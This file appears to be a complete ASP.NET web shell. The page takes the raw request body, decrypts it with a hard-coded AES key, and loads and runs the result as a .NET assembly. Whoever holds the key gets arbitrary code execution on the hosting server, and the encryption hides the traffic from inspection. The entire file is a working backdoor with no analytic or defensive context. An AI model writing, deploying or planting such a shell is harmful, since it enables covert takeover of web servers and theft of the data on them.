<%@ Page Language = "C#" %>
<%@ Import Namespace = "System.Reflection" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        Session.Add("k", "e45e329feb5d925b");
        byte[] key = Encoding.Default.GetBytes(Session[0] + "");
        byte[] body = Request.BinaryRead(Request.ContentLength);
        byte[] plain = new System.Security.Cryptography.RijndaelManaged()
            .CreateDecryptor(key, key)
            .TransformFinalBlock(body, 0, body.Length);
        Assembly asm = Assembly.Load(plain);
        asm.CreateInstance("U").Equals(this);
    }
</script>
